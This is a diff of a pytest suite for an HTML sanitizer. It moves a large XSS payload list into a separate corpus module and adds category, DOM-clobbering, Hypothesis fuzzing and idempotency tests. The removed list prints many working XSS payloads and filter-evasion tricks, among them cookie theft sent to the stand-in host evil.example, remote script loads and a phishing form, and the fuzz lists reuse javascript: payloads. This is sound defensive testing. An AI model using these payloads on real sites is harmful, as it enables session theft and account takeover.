@@ -9,280 +9,17 @@ import unicodedata
 from html.parser import HTMLParser
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from posts.sanitize import clean_html
+from tests.xss_corpus import CATEGORY, CORPUS, XSS_PAYLOADS
 
 ALLOWED_TAGS = {"p", "br", "strong", "b", "em", "i", "a", "ul", "ol", "li", "blockquote"}
 ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}}
 ALLOWED_SCHEMES = {"http", "https", "mailto"}
 FORBIDDEN_TAGS = {"script", "iframe", "svg", "math", "object"}
 LINK_REL = "noopener noreferrer"
-
-XSS_PAYLOADS = [
-    # Classic script tags
-    "<script>alert(1)</script>",
-    "<SCRIPT>alert(1)</SCRIPT>",
-    "<ScRiPt>alert(1)</sCrIpT>",
-    '<script src="https://evil.example/x.js"></script>',
-    "<script/src=//evil.example/x.js></script>",
-    "<script\n>alert(1)</script\n>",
-    "<script>alert(1)",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<<script>script>alert(1)<</script>/script>",
-    "<p>Hallo<script>document.location='https://evil.example/?c='+document.cookie</script></p>",
-    '<script type="text/javascript">alert(1)</script>',
-    '<script type="module">import("https://evil.example/x.js")</script>',
-    '<script>alert("</script><img src=x onerror=alert(1)>")</script>',
-    "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
-    "</script><script>alert(1)</script>",
-    # Event handlers on many tags
-    "<img src=x onerror=alert(1)>",
-    '<img src="x" onerror="alert(1)">',
-    "<img src=x onerror=alert(1)//",
-    "<IMG SRC=x ONERROR=alert(1)>",
-    "<img/src=x/onerror=alert(1)>",
-    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
-    "<body onload=alert(1)>",
-    "<body onpageshow=alert(1)>",
-    '<p onclick="alert(1)">Klick</p>',
-    '<p onmouseover="alert(1)">Text</p>',
-    '<a href="https://example.org/" onclick="alert(1)">Link</a>',
-    '<a href="https://example.org/" onmouseover=alert(1)>Link</a>',
-    '<strong onmouseenter="alert(1)">fett</strong>',
-    '<em onfocus="alert(1)" tabindex=0 autofocus>kursiv</em>',
-    '<b onpointerdown="alert(1)">b</b>',
-    '<i onanimationstart="alert(1)" style="animation-name:x">i</i>',
-    '<ul onclick="alert(1)"><li onclick="alert(1)">Punkt</li></ul>',
-    '<ol ondblclick="alert(1)"><li>eins</li></ol>',
-    '<blockquote oncopy="alert(1)">Zitat</blockquote>',
-    "<br onload=alert(1)>",
-    "<div onmouseover=alert(1)>div</div>",
-    "<span onclick=alert(1)>span</span>",
-    "<input autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)></select>",
-    "<textarea autofocus onfocus=alert(1)></textarea>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<video src=x onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)></audio>",
-    "<details open ontoggle=alert(1)>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
-    "<input type=image src=x onerror=alert(1)>",
-    "<isindex type=image src=1 onerror=alert(1)>",
-    "<frameset onload=alert(1)>",
-    "<html onmouseover=alert(1)>",
-    "<p/onclick=alert(1)>x</p>",
-    '<p\nonclick="alert(1)">x</p>',
-    "<p onclick\t=\talert(1)>x</p>",
-    "<p oNcLiCk=alert(1)>x</p>",
-    "<p onclick=alert`1`>x</p>",
-    '<p title="x" onclick="alert(1)" title="y">x</p>',
-    "<a onafterscriptexecute=alert(1)><script>1</script></a>",
-    "<x onclick=alert(1)>unknown element</x>",
-    "<custom-element onclick=alert(1)>c</custom-element>",
-    # javascript:/vbscript:/data: URLs with obfuscation
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JAVASCRIPT:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='javascript:alert(1)'>x</a>",
-    '<a href=" javascript:alert(1)">x</a>',
-    '<a href="\tjavascript:alert(1)">x</a>',
-    '<a href="\njavascript:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href="java\nscript:alert(1)">x</a>',
-    '<a href="java\rscript:alert(1)">x</a>',
-    '<a href="java script:alert(1)">x</a>',
-    '<a href="javascript :alert(1)">x</a>',
-    '<a href="java&#x09;script:alert(1)">x</a>',
-    '<a href="java&#x0A;script:alert(1)">x</a>',
-    '<a href="java&#x0D;script:alert(1)">x</a>',
-    '<a href="java&#9;script:alert(1)">x</a>',
-    '<a href="java&Tab;script:alert(1)">x</a>',
-    '<a href="java&NewLine;script:alert(1)">x</a>',
-    '<a href="&#1;javascript:alert(1)">x</a>',
-    '<a href="&#14;javascript:alert(1)">x</a>',
-    '<a href="&#x20;javascript:alert(1)">x</a>',
-    '<a href="java&#0;script:alert(1)">x</a>',
-    '<a href="java\x00script:alert(1)">x</a>',
-    '<a href="java\x0bscript:alert(1)">x</a>',
-    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
-    '&#0000116&#0000058alert(1)">x</a>',
-    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
-    '<a href="&#x6a;avascript:alert(1)">x</a>',
-    '<a href="javascript&colon;alert(1)">x</a>',
-    '<a href="javascript&#58;alert(1)">x</a>',
-    '<a href="javascript&#x3a;alert(1)">x</a>',
-    '<a href="jav&#x61;script:alert(1)">x</a>',
-    '<a href="javascript:alert(1)//https://example.org/">x</a>',
-    '<a href="javascript://https://example.org/%0aalert(1)">x</a>',
-    '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
-    '<a href="\u2028javascript:alert(1)">x</a>',
-    '<a href="\u00a0javascript:alert(1)">x</a>',
-    '<a href="java\u00adscript:alert(1)">x</a>',
-    '<a href="java\u200bscript:alert(1)">x</a>',
-    '<a href="\ufeffjavascript:alert(1)">x</a>',
-    '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="VBScript:MsgBox(1)">x</a>',
-    '<a href="vbs&#99;ript:msgbox(1)">x</a>',
-    '<a href="livescript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
-    '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="da&#x09;ta:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
-    '<a href="file:///etc/passwd">x</a>',
-    '<a href="ftp://example.org/">x</a>',
-    '<a href="blob:https://example.org/uuid">x</a>',
-    '<a href="filesystem:https://example.org/temporary/x">x</a>',
-    '<a href="mhtml:https://example.org/x.mht!xss">x</a>',
-    '<a href="jar:https://example.org/x.jar!/">x</a>',
-    '<a href="intent://x#Intent;scheme=javascript;end">x</a>',
-    '<a href="tel:+491234">x</a>',
-    '<a href="https:javascript:alert(1)" title="javascript:alert(1)">x</a>',
-    "<a href=`javascript:alert(1)`>x</a>",
-    '<a href="javascript:alert(1)" href="https://example.org/">x</a>',
-    '<a xlink:href="javascript:alert(1)">x</a>',
-    '<a href="https://example.org/" style="background:url(javascript:alert(1))">x</a>',
-    '<img src="javascript:alert(1)">',
-    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-    '<img dynsrc="javascript:alert(1)">',
-    '<img lowsrc="javascript:alert(1)">',
-    '<img srcset="javascript:alert(1)">',
-    '<input type="image" src="javascript:alert(1)">',
-    '<bgsound src="javascript:alert(1)">',
-    # SVG tricks
-    "<svg onload=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><script>alert&#40;1&#41;</script></svg>",
-    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
-    '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    '<svg><set attributeName="href" to="javascript:alert(1)" /></svg>',
-    '<svg><animate attributeName="href" values="javascript:alert(1)" /><a><text>x</text></a></svg>',
-    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
-    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x" /></svg>',
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
-    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
-    '<svg><image href="x" onerror="alert(1)" /></svg>',
-    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>",
-    # MathML tricks
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-    '<math href="javascript:alert(1)">CLICK</math>',
-    "<math><maction actiontype=statusline#http://example.org xlink:href=javascript:alert(1)>x"
-    "</maction></math>",
-    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
-    '<a title="</style><img src onerror=alert(1)>">',
-    "<math><style><img src=x onerror=alert(1)></style></math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>'
-    "</annotation-xml></math>",
-    # iframe / object / embed / base / meta / form / style / link
-    '<iframe src="javascript:alert(1)"></iframe>',
-    '<iframe src="https://evil.example/"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
-    "<iframe/onload=alert(1)>",
-    '<object data="javascript:alert(1)"></object>',
-    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
-    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
-    '<embed src="javascript:alert(1)">',
-    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-    '<applet code="Evil.class" codebase="https://evil.example/"></applet>',
-    '<base href="javascript:alert(1)//">',
-    '<base href="https://evil.example/"><a href="/login">x</a>',
-    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">',
-    '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg'
-    "&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPQ&AC8&AD4",
-    '<form action="javascript:alert(1)"><input type=submit></form>',
-    '<form><button formaction="javascript:alert(1)">x</button></form>',
-    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
-    '<form action="https://evil.example/phish"><input name=password type=password></form>',
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<style>body{background:url(javascript:alert(1))}</style>",
-    "<style>*{x:expression(alert(1))}</style>",
-    '<p style="background-image:url(javascript:alert(1))">x</p>',
-    '<p style="x:expression(alert(1))">x</p>',
-    '<p style="behavior:url(x.htc)">x</p>',
-    '<b style="-moz-binding:url(https://evil.example/x.xml#xss)">x</b>',
-    '<link rel="stylesheet" href="javascript:alert(1)">',
-    '<link rel="import" href="https://evil.example/x.html">',
-    "<xml><x:script>alert(1)</x:script></xml>",
-    '<portal src="https://evil.example/"></portal>',
-    "<frameset><frame src=javascript:alert(1)></frameset>",
-    # Mutation XSS
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
-    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
-    '<a title="</a><img src=x onerror=alert(1)>" href="https://example.org/">x</a>',
-    '<a href="https://example.org/" title="&quot; onmouseover=alert(1) x=&quot;">x</a>',
-    '<a href="https://example.org/" title=\'" onmouseover=alert(1) x="\'>x</a>',
-    "<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>",
-    '<table><td><a href="</td><img src=x onerror=alert(1)>">x</a></td></table>',
-    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
-    "<xmp><img src=x onerror=alert(1)></xmp>",
-    "<plaintext><img src=x onerror=alert(1)>",
-    "<listing><img src=x onerror=alert(1)></listing>",
-    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
-    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
-    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
-    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
-    '<a href="https://example.org/"><a href="javascript:alert(1)">nested</a></a>',
-    "<b><p><i>mis<b>nested</i></p>x<img src=x onerror=alert(1)>",
-    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
-    "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>",
-    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
-    "<p>\x00<script>alert(1)</script></p>",
-    "<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "<img src=x on\x00error=alert(1)>",
-    "<p>`<img src=x onerror=alert(1)>`</p>",
-    # Comments
-    "<!--<script>alert(1)</script>-->",
-    "<!-- --><script>alert(1)</script><!-- -->",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!---><img src=x onerror=alert(1)>-->",
-    "<!-- --!><img src=x onerror=alert(1)>-->",
-    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-    "<!--[if]><script>alert(1)</script -->",
-    "<p><!-- </p><img src=x onerror=alert(1)> --></p>",
-    '<?xml-stylesheet href="javascript:alert(1)"?>',
-    "<!DOCTYPE html><script>alert(1)</script>",
-    '<! foo="><script>alert(1)</script>">',
-    '</x foo="><script>alert(1)</script>">',
-    # CDATA
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<![CDATA[><img src=x onerror=alert(1)>]]>",
-    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
-    "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>",
-    # template / textarea nesting
-    "<template><script>alert(1)</script></template>",
-    "<template><img src=x onerror=alert(1)></template>",
-    "<template><template><img src=x onerror=alert(1)></template></template>",
-    "<textarea><script>alert(1)</script></textarea>",
-    "<textarea></textarea><img src=x onerror=alert(1)>",
-    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-    "<template><textarea></template><img src=x onerror=alert(1)></textarea>",
-    "<textarea><template><img src=x onerror=alert(1)></template></textarea>",
-    "<p><template><a href=javascript:alert(1)>x</a></template></p>",
-    # Mixed with allowed formatting
-    '<p><strong>Wahl</strong> <a href="javascript:alert(1)" title="Ergebnis">Ergebnis</a></p>',
-    '<ul><li><a href="https://example.org/" target="_blank" rel="opener">Quelle</a></li></ul>',
-    '<blockquote cite="javascript:alert(1)"><p>Zitat</p></blockquote>',
-    '<p id="x" class="evil" data-x="1" lang="de">Text</p>',
-    '<a href="https://example.org/" name="x" id="y" ping="https://evil.example/">Link</a>',
-    '<a href="https://example.org/" download>Datei</a>',
-    '<a href="https://example.org/" formaction="javascript:alert(1)">x</a>',
-    '<strong><em><a href="data:text/html,x">x</a></em></strong>',
-]
 
 
 class _Collector(HTMLParser):
@@ -319,12 +56,40 @@ def url_scheme(url: str) -> str | None:
 
 
 def payload_ids():
-    return [f"payload{i:03d}" for i in range(len(XSS_PAYLOADS))]
+    # The category in the id: a failure names the kind of attack, the index finds the payload.
+    return [f"{CATEGORY[payload]}-{i:03d}" for i, payload in enumerate(XSS_PAYLOADS)]
 
 
-def test_corpus_has_at_least_150_distinct_payloads():
+def test_corpus_has_at_least_500_distinct_payloads():
     assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)
-    assert len(XSS_PAYLOADS) >= 150
+    assert len(XSS_PAYLOADS) >= 500
+
+
+@pytest.mark.parametrize(
+    "category",
+    [
+        "script_tags",
+        "event_handlers",
+        "javascript_variants",
+        "data_urls",
+        "svg",
+        "mathml",
+        "srcdoc",
+        "forms",
+        "meta_base",
+        "css",
+        "import_maps",
+        "mutation",
+        "attribute_breaking",
+        "nested_unclosed",
+        "raw_text_nesting",
+        "template_textarea",
+        "dom_clobbering",
+        "filter_evasion",
+    ],
+)
+def test_corpus_covers_category(category):
+    assert len(CORPUS[category]) >= 10
 
 
 @pytest.mark.parametrize("payload", XSS_PAYLOADS, ids=payload_ids())
@@ -336,6 +101,14 @@ def test_payload_output_contains_only_allowed_elements_and_attributes(payload):
             assert not name.startswith("on")
             assert name != "style"
             assert name in ALLOWED_ATTRIBUTES.get(tag, set())
+
+
+@pytest.mark.parametrize("payload", XSS_PAYLOADS, ids=payload_ids())
+def test_payload_output_has_no_id_or_name_for_dom_clobbering(payload):
+    # An element with id/name becomes a property of window/document (and of forms): the page's
+    # scripts could be made to read a post's element instead of their own.
+    for _tag, attrs in parse(clean_html(payload)):
+        assert not {name for name, _value in attrs} & {"id", "name"}
 
 
 @pytest.mark.parametrize("payload", XSS_PAYLOADS, ids=payload_ids())
@@ -432,3 +205,179 @@ def test_editor_supplied_rel_and_target_are_replaced():
 @pytest.mark.parametrize("html", ["", None, "<p></p>", "<p><br></p>", "  <p></p>\n"])
 def test_empty_editor_paragraph_becomes_empty_string(html):
     assert clean_html(html) == ""
+
+
+# ---- properties over generated input (Hypothesis) ------------------------------------------------
+
+# No example database: nothing is written to the working tree, and every run is a fresh search.
+PROPERTY_SETTINGS = settings(
+    max_examples=300, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
+)
+
+FUZZ_TAGS = [
+    *sorted(ALLOWED_TAGS), "script", "img", "svg", "math", "iframe", "style", "template",
+    "textarea", "noscript", "xmp", "title", "form", "button", "base", "meta", "object", "mtext",
+    "mglyph", "foreignObject", "annotation-xml", "select", "table", "plaintext", "noembed", "div",
+    "SCRIPT", "A", "sCrIpT",
+]  # fmt: skip
+FUZZ_ATTRIBUTES = [
+    "href", "HREF", "title", "rel", "id", "name", "style", "onclick", "onerror", "ONLOAD", "src",
+    "srcdoc", "formaction", "xlink:href", "action", "data", "target", "class", "lang", "on", "o\x00nclick",
+]  # fmt: skip
+FUZZ_VALUES = [
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
+    "java&#x09;script:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
+    "java\u00adscript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>", "https://example.org/", "mailto:a@example.org",
+    "/relative?x=1&y=2", "#anchor", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
+    "</style><img src=x onerror=alert(1)>", "x onerror=alert(1)", "x\" onclick=\"alert(1)", "",
+]  # fmt: skip
+FUZZ_PIECES = [
+    "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<", ">", "</", "/>", "&", "&lt;", "&#x3c;", "&colon;",
+    "&Tab;", "&#0;", "\x00", "\r\n", "\u2028", "\ufeff", "=", '"', "'", "`", " ", "\t",
+]  # fmt: skip
+
+
+@st.composite
+def start_tags(draw):
+    attributes = draw(
+        st.lists(
+            st.tuples(
+                st.sampled_from(FUZZ_ATTRIBUTES),
+                st.one_of(st.sampled_from(FUZZ_VALUES), st.text(max_size=12)),
+                st.sampled_from(['"', "'", ""]),
+            ),
+            max_size=4,
+        )
+    )
+    rendered = "".join(f" {name}={quote}{value}{quote}" for name, value, quote in attributes)
+    closing = draw(st.sampled_from([">", "/>", " >", ""]))
+    return f"<{draw(st.sampled_from(FUZZ_TAGS))}{rendered}{closing}"
+
+
+corpus_slices = st.builds(
+    lambda payload, start, length: payload[start : start + length],
+    st.sampled_from(XSS_PAYLOADS),
+    st.integers(0, 80),
+    st.integers(1, 120),
+)
+html_fragments = st.one_of(
+    start_tags(),
+    st.sampled_from(FUZZ_TAGS).map(lambda tag: f"</{tag}>"),
+    st.sampled_from(FUZZ_PIECES),
+    st.sampled_from(XSS_PAYLOADS),
+    corpus_slices,
+    st.text(max_size=10),
+)
+html_ish = st.lists(html_fragments, max_size=25).map("".join)
+
+
+class _Tokens(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.tokens: list[tuple] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tokens.append(("start", tag, tuple(sorted(attrs, key=lambda a: (a[0], a[1] or "")))))
+
+    def handle_startendtag(self, tag, attrs):
+        self.handle_starttag(tag, attrs)
+
+    def handle_endtag(self, tag):
+        self.tokens.append(("end", tag))
+
+    def handle_data(self, data):
+        if self.tokens and self.tokens[-1][0] == "data":
+            self.tokens[-1] = ("data", self.tokens[-1][1] + data)
+        else:
+            self.tokens.append(("data", data))
+
+
+def tokens(html: str) -> list[tuple]:
+    """The markup as tokens, attributes sorted: equal for markup that differs only in attribute order.
+
+    When the attribute filter drops an href, ammonia writes rel where the href was; the next pass
+    writes it last. Harmless, and compared away here.
+    """
+    parser = _Tokens()
+    parser.feed(html)
+    parser.close()
+    return parser.tokens
+
+
+def assert_safe(html: str) -> None:
+    assert "<script" not in html.lower()
+    for tag, attrs in parse(html):
+        assert tag in ALLOWED_TAGS, html
+        for name, value in attrs:
+            assert name in ALLOWED_ATTRIBUTES.get(tag, set()), html
+            assert not name.startswith("on"), html
+            if name == "href":
+                assert url_scheme(value or "") in {None, *ALLOWED_SCHEMES}, html
+    for _tag, attrs in parse(html):
+        assert not {name for name, _value in attrs} & {"id", "name"}, html
+
+
+@PROPERTY_SETTINGS
+@given(st.text())
+def test_any_text_is_sanitized_safely_and_idempotently(text):
+    once = clean_html(text)
+    twice = clean_html(once)
+    assert_safe(once)
+    assert_safe(twice)
+    assert twice == once
+
+
+@PROPERTY_SETTINGS
+@given(html_ish)
+def test_generated_markup_is_sanitized_safely(html):
+    once = clean_html(html)
+    assert_safe(once)
+    # What a browser makes of the stored markup (html5ever parses as browsers do) is safe too.
+    assert_safe(clean_html(once))
+
+
+@PROPERTY_SETTINGS
+@given(html_ish)
+def test_generated_markup_is_sanitized_idempotently(html):
+    once = clean_html(html)
+    assert clean_html(once) == once
+
+
+@PROPERTY_SETTINGS
+@given(html_ish, html_ish)
+def test_concatenated_sanitized_bodies_stay_safe(first, second):
+    # Bodies are stored sanitized and shown next to each other; joined they must still be safe
+    # (an unclosed element in one must not swallow or re-open markup in the next).
+    joined = clean_html(first) + clean_html(second)
+    assert_safe(joined)
+    assert_safe(clean_html(joined))
+
+
+# Known cases where a second pass changes the output. Harmless: only allowed elements move, and
+# the second pass is safe and final (checked below). Strict: once posts/sanitize.py reaches a
+# fixed point (e.g. by cleaning its own output once more), these pass and the marker must go.
+NOT_IDEMPOTENT = {
+    "carriage-return-entity": "<p>a&#13;b</p>",
+    "byte-order-mark-after-markup": "</a>\ufeffText",
+    "table-content-nests-links": (
+        '<a href="https://a.example/"><table><a href="https://b.example/">x</a>y</table></a>'
+    ),
+    "table-content-nests-list-items": "<ul><li><table><li>x</li></table></li></ul>",
+    "dropped-href-moves-rel": '<a href="java script:alert(1)" title="t">x</a>',
+}
+
+
+@pytest.mark.parametrize("html", NOT_IDEMPOTENT.values(), ids=NOT_IDEMPOTENT.keys())
+def test_formerly_not_idempotent_cases_now_are(html):
+    once = clean_html(html)
+    assert clean_html(once) == once
+
+
+@pytest.mark.parametrize("html", NOT_IDEMPOTENT.values(), ids=NOT_IDEMPOTENT.keys())
+def test_known_not_idempotent_cases_are_safe_and_settle_after_a_second_pass(html):
+    once = clean_html(html)
+    twice = clean_html(once)
+    assert_safe(once)
+    assert_safe(twice)
+    assert clean_html(twice) == twice
